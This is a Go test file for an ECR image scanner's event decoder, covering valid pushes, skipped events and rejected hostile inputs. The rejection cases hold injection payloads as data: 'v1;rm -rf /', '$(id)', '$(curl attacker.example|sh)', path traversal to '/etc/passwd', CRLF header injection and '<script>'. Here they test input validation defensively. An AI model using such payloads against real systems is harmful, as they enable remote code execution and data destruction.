package events_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	awsevents "github.com/aws/aws-lambda-go/events"

	"ecrscanner/domain"
	"ecrscanner/events"
)

const fixtureDir = "../testdata/events"

const (
	pushDigest     = "sha256:f76b46650a2fc9cef63a3f61ad4eb4a5fc504d24f1ed29345a7542add8b06a12"
	untaggedDigest = "sha256:e30c938c5da87410b60fc30e33e45b61c60bf8797248861e20f0a5ce51c2d012"
	repository     = "team-a/payments-api"
	account        = "123456789012"
	region         = "us-east-1"

	ociManifest    = "application/vnd.oci.image.manifest.v1+json"
	ociConfig      = "application/vnd.oci.image.config.v1+json"
	dockerManifest = "application/vnd.docker.distribution.manifest.v2+json"
	dockerConfig   = "application/vnd.docker.container.image.v1+json"
)

// tag300 is the tag of the -tag300 fixtures: 300 characters, ECR's longest
// (domain.MaxTagLen), well past the OCI grammar's 128.
var tag300 = "rel-2025.11.20_build." + strings.Repeat("a1b2c3-d4e5f6.", 19) + "a1b2c3-d4e5fz"

// maxMessage bounds every error message DecodePush returns, whatever the input.
const maxMessage = 512

func fixture(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(fixtureDir, name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func ref(t testing.TB, digest, tag string) domain.ImageRef {
	t.Helper()
	r, err := domain.NewImageRef(account, region, repository, digest, tag)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func at(s string) time.Time {
	ts, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return ts
}

// outcome is what a decoding should produce: a request, a skip whose reason
// contains skip, or an invalid event whose error matches invalid and
// contains msg.
type outcome struct {
	want    *events.ScanRequest
	skip    string
	invalid error
	msg     string
}

// checkOutcome asserts got/err against o, and the message contract of every
// error: one line, bounded, and of exactly one kind.
func checkOutcome(t *testing.T, o outcome, got events.ScanRequest, err error) {
	t.Helper()
	if err != nil {
		msg := err.Error()
		if strings.ContainsAny(msg, "\n\r") {
			t.Errorf("error message spans lines: %q", msg)
		}
		if len(msg) > maxMessage {
			t.Errorf("error message is %d bytes, want at most %d", len(msg), maxMessage)
		}
	}
	var skip *events.SkipError
	switch {
	case o.want != nil:
		if err != nil {
			t.Fatalf("DecodePush: %v", err)
		}
		if !reflect.DeepEqual(got, *o.want) {
			t.Errorf("DecodePush =\n %+v\nwant\n %+v", got, *o.want)
		}
	case o.skip != "":
		if !errors.As(err, &skip) {
			t.Fatalf("DecodePush error = %v, want a *SkipError", err)
		}
		if errors.Is(err, domain.ErrInvalid) {
			t.Errorf("skip %v also wraps ErrInvalid", err)
		}
		if !strings.Contains(skip.Reason, o.skip) {
			t.Errorf("skip reason %q, want it to contain %q", skip.Reason, o.skip)
		}
		if got != (events.ScanRequest{}) {
			t.Errorf("skip returned a request: %+v", got)
		}
	default:
		if !errors.Is(err, o.invalid) || !errors.Is(err, domain.ErrInvalid) {
			t.Fatalf("DecodePush error = %v, want one wrapping %v", err, o.invalid)
		}
		if errors.As(err, &skip) {
			t.Errorf("invalid event %v is also a skip", err)
		}
		if !strings.Contains(err.Error(), o.msg) {
			t.Errorf("error %q, want it to contain %q", err, o.msg)
		}
		if got != (events.ScanRequest{}) {
			t.Errorf("invalid event returned a request: %+v", got)
		}
	}
}

func TestDecodePushFixtures(t *testing.T) {
	tests := map[string]outcome{
		// Real shapes that are scanned.
		"ecr-image-action-push.json": {want: &events.ScanRequest{
			Ref: ref(t, pushDigest, "v1.4.2"), Trigger: events.TriggerImageAction,
			EventID: "5b4b2fd6-98d2-4d1d-9cf5-63ebcdc90922", EventTime: at("2025-11-20T14:03:27Z"),
			MediaType: ociManifest, ArtifactMediaType: ociConfig,
		}},
		"ecr-image-action-push-untagged.json": {want: &events.ScanRequest{
			Ref: ref(t, untaggedDigest, ""), Trigger: events.TriggerImageAction,
			EventID: "3ee5a907-60dc-445f-a40c-089f506080ac", EventTime: at("2025-11-20T14:03:25Z"),
			MediaType: dockerManifest, ArtifactMediaType: dockerConfig,
		}},
		"cloudtrail-putimage.json": {want: &events.ScanRequest{
			Ref: ref(t, pushDigest, "v1.4.2"), Trigger: events.TriggerCloudTrailPutImage,
			EventID: "acfca11d-14a3-4453-b043-0e9279ecd41b", EventTime: at("2025-11-20T14:03:27Z"),
			MediaType: ociManifest, ArtifactMediaType: ociConfig,
		}},
		// ECR's API takes tags of up to 300 characters; registry clients stop
		// at 128, but such a push is still an image to scan.
		"ecr-image-action-push-tag300.json": {want: &events.ScanRequest{
			Ref: ref(t, pushDigest, tag300), Trigger: events.TriggerImageAction,
			EventID: "7c1e0f3a-2b44-4c7e-9a51-0d6f2e8b3300", EventTime: at("2025-11-20T14:03:27Z"),
			MediaType: ociManifest, ArtifactMediaType: ociConfig,
		}},
		"cloudtrail-putimage-tag300.json": {want: &events.ScanRequest{
			Ref: ref(t, pushDigest, tag300), Trigger: events.TriggerCloudTrailPutImage,
			EventID: "e2d4b6a8-1357-4c9e-8f02-6a4c2e0b3300", EventTime: at("2025-11-20T14:03:27Z"),
			MediaType: ociManifest, ArtifactMediaType: ociConfig,
		}},
		// No imageManifestMediaType anywhere: both hints come from the manifest.
		"cloudtrail-putimage-untagged.json": {want: &events.ScanRequest{
			Ref: ref(t, untaggedDigest, ""), Trigger: events.TriggerCloudTrailPutImage,
			EventID: "9db6807a-0551-4899-b141-2fe661af5615", EventTime: at("2025-11-20T14:03:25Z"),
			MediaType: dockerManifest, ArtifactMediaType: dockerConfig,
		}},

		// Real shapes that are not scanned.
		"ecr-image-action-push-failure.json":  {skip: `push result "FAILURE" is not SUCCESS`},
		"ecr-image-action-delete.json":        {skip: `action-type "DELETE" is not PUSH`},
		"ecr-image-scan.json":                 {skip: `detail-type "ECR Image Scan"`},
		"cloudtrail-putimage-error.json":      {skip: `errorCode "ImageAlreadyExistsException"`},
		"cloudtrail-batchdeleteimage.json":    {skip: `eventName "BatchDeleteImage" is not PutImage`},
		"cloudtrail-putimage-ecr-public.json": {skip: `source "aws.ecr-public"`},

		// Hostile or broken.
		"ecr-invalid-repository-traversal.json":        {invalid: domain.ErrInvalidRepository, msg: `"../../etc"`},
		"ecr-invalid-repository-uppercase.json":        {invalid: domain.ErrInvalidRepository, msg: `"Team-A/Payments-API"`},
		"ecr-invalid-digest-bad.json":                  {invalid: domain.ErrInvalidDigest, msg: `"md5:`},
		"ecr-invalid-digest-uppercase-hex.json":        {invalid: domain.ErrInvalidDigest, msg: `"sha256:F76B`},
		"ecr-invalid-digest-short.json":                {invalid: domain.ErrInvalidDigest, msg: `"sha256:f76b46650a2f"`},
		"ecr-invalid-tag-shell.json":                   {invalid: domain.ErrInvalidTag, msg: `"v1;rm -rf /"`},
		"ecr-invalid-tag-subshell.json":                {invalid: domain.ErrInvalidTag, msg: `"$(id)"`},
		"ecr-invalid-tag-huge.json":                    {invalid: domain.ErrInvalidTag, msg: "4096 characters, over ECR's limit of 300"},
		"ecr-invalid-tag-301.json":                     {invalid: domain.ErrInvalidTag, msg: "301 characters, over ECR's limit of 300"},
		"ecr-invalid-missing-fields.json":              {invalid: domain.ErrInvalid, msg: "missing detail.repository-name"},
		"ecr-invalid-missing-detail.json":              {invalid: domain.ErrInvalid, msg: "missing detail"},
		"ecr-invalid-missing-id.json":                  {invalid: domain.ErrInvalid, msg: "missing id"},
		"ecr-invalid-digest-number.json":               {invalid: domain.ErrInvalid, msg: "detail.image-digest: got JSON number, want string"},
		"ecr-invalid-detail-string.json":               {invalid: domain.ErrInvalid, msg: "detail: got JSON string, want object"},
		"ecr-invalid-media-type.json":                  {invalid: domain.ErrInvalid, msg: `detail.manifest-media-type "text/html\r\nX-Injected: 1"`},
		"ecr-invalid-account.json":                     {invalid: domain.ErrInvalidAccount, msg: `"1234567890123"`},
		"ecr-invalid-region.json":                      {invalid: domain.ErrInvalidRegion, msg: `"us-east-1/../../x"`},
		"ecr-invalid-time.json":                        {invalid: domain.ErrInvalid, msg: "time: want an RFC 3339 timestamp"},
		"ecr-invalid-id-newline.json":                  {invalid: domain.ErrInvalid, msg: `id "5b4b2fd6\nFAKE LOG LINE`},
		"ecr-invalid-empty.json":                       {invalid: domain.ErrInvalid, msg: "empty body"},
		"ecr-invalid-not-json.json":                    {invalid: domain.ErrInvalid, msg: "not JSON"},
		"ecr-invalid-truncated.json":                   {invalid: domain.ErrInvalid, msg: "not JSON"},
		"ecr-invalid-trailing-data.json":               {invalid: domain.ErrInvalid, msg: "not JSON"},
		"ecr-invalid-array.json":                       {invalid: domain.ErrInvalid, msg: "event: got JSON array, want object"},
		"cloudtrail-invalid-repository-traversal.json": {invalid: domain.ErrInvalidRepository, msg: `"../../etc/passwd"`},
		"cloudtrail-invalid-tag-subshell.json":         {invalid: domain.ErrInvalidTag, msg: `"$(curl attacker.example|sh)"`},
		"cloudtrail-invalid-missing-digest.json":       {invalid: domain.ErrInvalid, msg: "missing detail.responseElements.image.imageId.imageDigest"},
		"cloudtrail-invalid-request-array.json":        {invalid: domain.ErrInvalid, msg: "detail.requestParameters: got JSON array, want object"},
	}

	// Every push fixture must be in the table, so none sits there untested.
	// (Other fixtures in the folder belong to other decoders.)
	var files []string
	for _, pattern := range []string{"ecr-*.json", "cloudtrail-*.json"} {
		m, err := filepath.Glob(filepath.Join(fixtureDir, pattern))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, m...)
	}
	for _, f := range files {
		if _, ok := tests[filepath.Base(f)]; !ok {
			t.Errorf("fixture %s has no case in this table", filepath.Base(f))
		}
	}

	for name, o := range tests {
		t.Run(name, func(t *testing.T) {
			got, err := events.DecodePush(fixture(t, name))
			checkOutcome(t, o, got, err)
		})
	}
}

// mutate decodes a fixture into a generic value, lets fn change it, and
// re-encodes it: variants of real events without a file each.
func mutate(t *testing.T, name string, fn func(ev, detail map[string]any)) []byte {
	t.Helper()
	var ev map[string]any
	if err := json.Unmarshal(fixture(t, name), &ev); err != nil {
		t.Fatal(err)
	}
	detail, _ := ev["detail"].(map[string]any)
	fn(ev, detail)
	b, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func obj(m map[string]any, key string) map[string]any { return m[key].(map[string]any) }

func TestDecodePushVariants(t *testing.T) {
	const other = "210987654321"
	otherRef := func(acct, rgn, tag string) *events.ScanRequest {
		r, err := domain.NewImageRef(acct, rgn, repository, pushDigest, tag)
		if err != nil {
			t.Fatal(err)
		}
		return &events.ScanRequest{
			Ref: r, Trigger: events.TriggerCloudTrailPutImage,
			EventID: "acfca11d-14a3-4453-b043-0e9279ecd41b", EventTime: at("2025-11-20T14:03:27Z"),
			MediaType: ociManifest, ArtifactMediaType: ociConfig,
		}
	}
	tests := []struct {
		name    string
		fixture string
		fn      func(ev, detail map[string]any)
		outcome
	}{
		{
			name: "image action with an empty image-tag is untagged", fixture: "ecr-image-action-push.json",
			fn: func(_, d map[string]any) { d["image-tag"] = "" },
			outcome: outcome{want: &events.ScanRequest{
				Ref: ref(t, pushDigest, ""), Trigger: events.TriggerImageAction,
				EventID: "5b4b2fd6-98d2-4d1d-9cf5-63ebcdc90922", EventTime: at("2025-11-20T14:03:27Z"),
				MediaType: ociManifest, ArtifactMediaType: ociConfig,
			}},
		},
		{
			name: "image action without media types (older events)", fixture: "ecr-image-action-push.json",
			fn: func(_, d map[string]any) { delete(d, "manifest-media-type"); delete(d, "artifact-media-type") },
			outcome: outcome{want: &events.ScanRequest{
				Ref: ref(t, pushDigest, "v1.4.2"), Trigger: events.TriggerImageAction,
				EventID: "5b4b2fd6-98d2-4d1d-9cf5-63ebcdc90922", EventTime: at("2025-11-20T14:03:27Z"),
			}},
		},
		{
			name: "image action with unknown fields is accepted", fixture: "ecr-image-action-push.json",
			fn: func(ev, d map[string]any) { ev["replay-name"] = "r1"; d["new-field"] = map[string]any{"x": 1} },
			outcome: outcome{want: &events.ScanRequest{
				Ref: ref(t, pushDigest, "v1.4.2"), Trigger: events.TriggerImageAction,
				EventID: "5b4b2fd6-98d2-4d1d-9cf5-63ebcdc90922", EventTime: at("2025-11-20T14:03:27Z"),
				MediaType: ociManifest, ArtifactMediaType: ociConfig,
			}},
		},
		{
			name: "image action from another source", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { ev["source"] = "my.app" },
			outcome: outcome{skip: `source "my.app" is not aws.ecr`},
		},
		{
			name: "image action missing the digest", fixture: "ecr-image-action-push.json",
			fn:      func(_, d map[string]any) { delete(d, "image-digest") },
			outcome: outcome{invalid: domain.ErrInvalid, msg: "missing detail.image-digest"},
		},
		{
			name: "image action missing account and region reports both", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { delete(ev, "account"); delete(ev, "region") },
			outcome: outcome{invalid: domain.ErrInvalidRegion, msg: `invalid account ""`},
		},
		{
			name: "image action with a wrong-typed result", fixture: "ecr-image-action-delete.json",
			fn:      func(_, d map[string]any) { d["result"] = true },
			outcome: outcome{invalid: domain.ErrInvalid, msg: "detail.result: got JSON boolean, want string"},
		},
		{
			name: "envelope with a wrong-typed account", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { ev["account"] = 123456789012 },
			outcome: outcome{invalid: domain.ErrInvalid, msg: "account: got JSON number, want string"},
		},
		{
			name: "null detail", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { ev["detail"] = nil },
			outcome: outcome{invalid: domain.ErrInvalid, msg: "missing detail"},
		},
		{
			name: "missing detail-type", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { delete(ev, "detail-type") },
			outcome: outcome{invalid: domain.ErrInvalid, msg: "missing detail-type"},
		},
		{
			name: "missing time", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { delete(ev, "time") },
			outcome: outcome{invalid: domain.ErrInvalid, msg: "missing time"},
		},
		{
			name: "huge id is bounded in the message", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { ev["id"] = strings.Repeat("é", 5000) },
			outcome: outcome{invalid: domain.ErrInvalid, msg: `id "éé`},
		},
		{
			name: "huge detail-type is bounded in the skip reason", fixture: "ecr-image-action-push.json",
			fn:      func(ev, _ map[string]any) { ev["detail-type"] = strings.Repeat("x\n", 5000) },
			outcome: outcome{skip: `detail-type "x\nx\n`},
		},
		{
			name: "cloudtrail via ECR Public's event source", fixture: "cloudtrail-putimage.json",
			fn:      func(_, d map[string]any) { d["eventSource"] = "ecr-public.amazonaws.com" },
			outcome: outcome{skip: `eventSource "ecr-public.amazonaws.com" is not ecr.amazonaws.com`},
		},
		{
			name: "cloudtrail cross-account push names the registry's account", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				d["recipientAccountId"] = "111122223333"
				obj(d, "requestParameters")["registryId"] = other
				obj(obj(d, "responseElements"), "image")["registryId"] = other
			},
			outcome: outcome{want: otherRef(other, region, "v1.4.2")},
		},
		{
			name: "cloudtrail account from requestParameters.registryId", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				d["recipientAccountId"] = "111122223333"
				obj(d, "requestParameters")["registryId"] = other
				delete(obj(obj(d, "responseElements"), "image"), "registryId")
			},
			outcome: outcome{want: otherRef(other, region, "v1.4.2")},
		},
		{
			name: "cloudtrail account from recipientAccountId", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				d["recipientAccountId"] = other
				delete(obj(d, "requestParameters"), "registryId")
				delete(obj(obj(d, "responseElements"), "image"), "registryId")
			},
			outcome: outcome{want: otherRef(other, region, "v1.4.2")},
		},
		{
			name: "cloudtrail account and region from the envelope", fixture: "cloudtrail-putimage.json",
			fn: func(ev, d map[string]any) {
				ev["account"] = other
				ev["region"] = "eu-west-1"
				delete(d, "awsRegion")
				delete(d, "recipientAccountId")
				delete(obj(d, "requestParameters"), "registryId")
				delete(obj(obj(d, "responseElements"), "image"), "registryId")
			},
			outcome: outcome{want: otherRef(other, "eu-west-1", "v1.4.2")},
		},
		{
			name: "cloudtrail digest from requestParameters when the response lacks it", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				obj(d, "requestParameters")["imageDigest"] = pushDigest
				d["responseElements"] = nil
			},
			outcome: outcome{want: otherRef(account, region, "v1.4.2")},
		},
		{
			name: "cloudtrail tag from the response when the request lacks it", fixture: "cloudtrail-putimage.json",
			fn:      func(_, d map[string]any) { delete(obj(d, "requestParameters"), "imageTag") },
			outcome: outcome{want: otherRef(account, region, "v1.4.2")},
		},
		{
			name: "cloudtrail with an unparsable manifest keeps the explicit media type only", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) { obj(d, "requestParameters")["imageManifest"] = "{not json" },
			outcome: outcome{want: func() *events.ScanRequest {
				r := otherRef(account, region, "v1.4.2")
				r.ArtifactMediaType = ""
				return r
			}()},
		},
		{
			name: "cloudtrail manifest artifactType wins over its config", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				obj(d, "requestParameters")["imageManifest"] = `{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json",` +
					`"artifactType":"application/vnd.dev.sigstore.bundle.v0.3+json","config":{"mediaType":"application/vnd.oci.empty.v1+json"}}`
			},
			outcome: outcome{want: func() *events.ScanRequest {
				r := otherRef(account, region, "v1.4.2")
				r.ArtifactMediaType = "application/vnd.dev.sigstore.bundle.v0.3+json"
				return r
			}()},
		},
		{
			name: "cloudtrail manifest with a hostile artifactType drops the hint", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				obj(d, "requestParameters")["imageManifest"] = `{"mediaType":"a/b\n","artifactType":"x y/z"}`
				delete(obj(obj(d, "responseElements"), "image"), "imageManifestMediaType")
			},
			outcome: outcome{want: func() *events.ScanRequest {
				r := otherRef(account, region, "v1.4.2")
				r.MediaType, r.ArtifactMediaType = "", ""
				return r
			}()},
		},
		{
			name: "cloudtrail with a hostile imageManifestMediaType", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				obj(obj(d, "responseElements"), "image")["imageManifestMediaType"] = "<script>/x"
			},
			outcome: outcome{invalid: domain.ErrInvalid, msg: `imageManifestMediaType "<script>/x"`},
		},
		{
			name: "cloudtrail missing the repository", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				delete(obj(d, "requestParameters"), "repositoryName")
				delete(obj(obj(d, "responseElements"), "image"), "repositoryName")
			},
			outcome: outcome{invalid: domain.ErrInvalid, msg: "missing detail.requestParameters.repositoryName"},
		},
		{
			name: "cloudtrail with a wrong-typed digest", fixture: "cloudtrail-putimage.json",
			fn: func(_, d map[string]any) {
				obj(obj(obj(d, "responseElements"), "image"), "imageId")["imageDigest"] = []any{pushDigest}
			},
			outcome: outcome{invalid: domain.ErrInvalid, msg: "detail.responseElements.image.imageId.imageDigest: got JSON array, want string"},
		},
		{
			name: "cloudtrail with a wrong-typed errorCode", fixture: "cloudtrail-putimage-error.json",
			fn:      func(_, d map[string]any) { d["errorCode"] = 500 },
			outcome: outcome{invalid: domain.ErrInvalid, msg: "detail.errorCode: got JSON number, want string"},
		},
		{
			name: "cloudtrail other call with parameters of another shape is skipped", fixture: "cloudtrail-batchdeleteimage.json",
			fn:      func(_, d map[string]any) { obj(d, "requestParameters")["imageTag"] = []any{1, 2} },
			outcome: outcome{skip: `eventName "BatchDeleteImage"`},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := events.DecodePush(mutate(t, tt.fixture, tt.fn))
			checkOutcome(t, tt.outcome, got, err)
		})
	}
}

func TestDecodePushRejectsOversizedBody(t *testing.T) {
	// Valid JSON, padded past the limit with whitespace: the size alone decides.
	body := append(fixture(t, "ecr-image-action-push.json"), bytes.Repeat([]byte(" "), events.MaxEventSize)...)
	_, err := events.DecodePush(body)
	checkOutcome(t, outcome{invalid: domain.ErrInvalid, msg: "exceeds"}, events.ScanRequest{}, err)
}

func TestSkipErrorMessage(t *testing.T) {
	err := error(&events.SkipError{Reason: "action-type \"DELETE\" is not PUSH"})
	if got, want := err.Error(), `not scanned: action-type "DELETE" is not PUSH`; got != want {
		t.Errorf("Error() = %q, want %q", got, want)
	}
}

// generic decodes JSON into plain values, for comparisons that ignore layout.
func generic(t *testing.T, b []byte) any {
	t.Helper()
	var v any
	if err := json.Unmarshal(b, &v); err != nil {
		t.Fatal(err)
	}
	return v
}

func reencode(t *testing.T, body []byte, v any) any {
	t.Helper()
	if err := json.Unmarshal(body, v); err != nil {
		t.Fatalf("decode with aws-lambda-go's type: %v", err)
	}
	out, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return generic(t, out)
}

// The fixtures are real AWS shapes: aws-lambda-go's types read them and write
// them back unchanged.
func TestFixturesRoundTripThroughAWSLambdaGo(t *testing.T) {
	valid := []string{
		"ecr-image-action-push.json", "ecr-image-action-push-untagged.json",
		"ecr-image-action-push-failure.json", "ecr-image-action-delete.json", "ecr-image-scan.json",
		"cloudtrail-putimage.json", "cloudtrail-putimage-untagged.json", "cloudtrail-putimage-error.json",
		"cloudtrail-batchdeleteimage.json", "cloudtrail-putimage-ecr-public.json",
	}
	for _, name := range valid {
		t.Run(name, func(t *testing.T) {
			body := fixture(t, name)
			got := reencode(t, body, &awsevents.CloudWatchEvent{})
			if want := generic(t, body); !reflect.DeepEqual(got, want) {
				t.Errorf("CloudWatchEvent round trip changed the event:\n got %v\nwant %v", got, want)
			}
		})
	}
	// ECRImageActionEvent predates ECR's media type fields and always writes
	// image-tag: those are its only differences from the fixtures.
	for _, name := range valid[:4] {
		t.Run("ECRImageActionEvent/"+name, func(t *testing.T) {
			body := fixture(t, name)
			got := reencode(t, body, &awsevents.ECRImageActionEvent{})
			want := generic(t, body).(map[string]any)
			d := want["detail"].(map[string]any)
			delete(d, "manifest-media-type")
			delete(d, "artifact-media-type")
			if _, ok := d["image-tag"]; !ok {
				d["image-tag"] = ""
			}
			if !reflect.DeepEqual(got, any(want)) {
				t.Errorf("ECRImageActionEvent round trip:\n got %v\nwant %v", got, want)
			}
		})
	}
}

func BenchmarkDecodePush(b *testing.B) {
	for _, name := range []string{"ecr-image-action-push.json", "cloudtrail-putimage.json", "ecr-image-action-delete.json", "ecr-invalid-tag-shell.json"} {
		body := fixture(b, name)
		b.Run(strings.TrimSuffix(name, ".json"), func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				_, _ = events.DecodePush(body)
			}
		})
	}
}
